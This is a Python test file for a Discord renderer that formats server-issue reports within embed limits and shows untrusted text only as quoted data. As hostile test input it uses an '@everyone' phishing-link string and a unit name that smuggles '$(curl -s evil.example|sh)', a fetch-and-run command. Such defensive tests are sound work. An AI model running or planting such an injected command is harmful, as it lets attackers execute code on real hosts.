"""The messages that account for issues: "no action needed" (named, with the reason) and
"not addressed by the analysis" (for a human) — within Discord's limits, never cut
silently, untrusted text only as quoted data."""

from __future__ import annotations

import re

from channels import discord_listings as render
from core.models import CheckName
from core.wire import Embed
from tests.core.factories import issue

PING = "@everyone <@123456789012345678> [click](https://evil.example)"


def _text(embeds: list[Embed]) -> str:
    parts = []
    for e in embeds:
        parts += [e.title or "", e.description or "", e.footer or ""]
        parts += [f"{f.name}\n{f.value}" for f in e.fields]
    return "\n".join(parts)


def _outside_code(text: str) -> str:
    return re.sub(r"```.*?```", "", text, flags=re.S)


def _within_discord_limits(embeds: list[Embed]) -> None:
    assert 1 <= len(embeds) <= 10
    total = 0
    for e in embeds:
        assert len(e.fields) <= 25 and len(e.title or "") <= 256
        assert len(e.description or "") <= 4096
        for f in e.fields:
            assert len(f.name) <= 256 and len(f.value) <= 1024
        total += len(e.title or "") + len(e.description or "") + len(e.footer or "")
        total += sum(len(f.name) + len(f.value) for f in e.fields)
    assert total <= 6000


def test_no_action_needed_names_each_issue_under_its_reason() -> None:
    a, b, c = issue("web-02"), issue("web-01"), issue("db-01", CheckName.DISK, "/var")
    embeds = render.no_action_needed_message(
        [(a, "planned restart"), (b, "planned restart"), (c, f"cleanup at 03:00 {PING}")],
        summary="all transient",
        cycle_id="c1",
    )
    [embed] = embeds
    assert embed.title == "✅ 3 issue(s) need no action"
    assert [f.name for f in embed.fields] == [
        "2 issue(s) — no action needed",
        "1 issue(s) — no action needed",
    ]
    assert a.fingerprint in embed.fields[0].value and b.fingerprint in embed.fields[0].value
    assert "planned restart" in embed.fields[0].value
    assert c.fingerprint in embed.fields[1].value and "cleanup at 03:00" in embed.fields[1].value
    assert "all transient" in (embed.description or "") and embed.footer == "cycle c1"
    shown = _outside_code(_text(embeds))
    assert "@everyone" not in shown and "evil.example" not in shown


def test_unaddressed_issues_are_named_per_host_with_what_the_reader_dropped() -> None:
    unit = "$(curl -s evil.example|sh).service"
    issues = [issue("web-02"), issue("web-02", subject=unit), issue("db-01")]
    embeds = render.unaddressed_issues_message(
        issues, notes=["action 0 dropped: Input should be 'low', 'medium' or 'high'"],
        cycle_id="c2",
    )  # fmt: skip
    [embed] = embeds
    assert embed.title == "⚠️ 3 issue(s) not addressed by the analysis need a human"
    assert [f.name for f in embed.fields] == ["web-02 · 2 issue(s)", "db-01 · 1 issue(s)"]
    for i in issues:
        assert i.fingerprint in _text(embeds)
    assert "action 0 dropped" in (embed.description or "")
    assert "evil.example" not in _outside_code(_text(embeds))


def test_many_issues_fit_one_message_and_the_rest_is_counted_not_cut() -> None:
    issues = [
        issue(f"host-{n:04d}.example.internal", subject=f"svc-{n}.service") for n in range(600)
    ]
    for embeds in (
        render.unaddressed_issues_message(issues, notes=[], cycle_id="c"),
        render.no_action_needed_message(
            [(i, f"reason {n % 3}") for n, i in enumerate(issues)], summary="s", cycle_id="c"
        ),
    ):
        _within_discord_limits(embeds)
        text = _text(embeds)
        named = sum(1 for i in issues if f"|{i.subject}" in text)
        more = re.search(
            r"… and (\d+) more issue\(s\) not listed here", embeds[0].description or ""
        )
        assert more is not None and 0 < named < len(issues)
        assert named + int(more.group(1)) == len(issues)  # every issue shown or counted
        assert "600 issue(s)" in (embeds[0].title or "")


def test_a_few_issues_are_all_listed_without_an_overflow_line() -> None:
    issues = [issue(f"web-{n:02d}") for n in range(30)]
    embeds = render.unaddressed_issues_message(issues, notes=[], cycle_id="c")
    _within_discord_limits(embeds)
    assert all(i.fingerprint in _text(embeds) for i in issues)
    assert "more issue(s) not listed" not in (embeds[0].description or "")
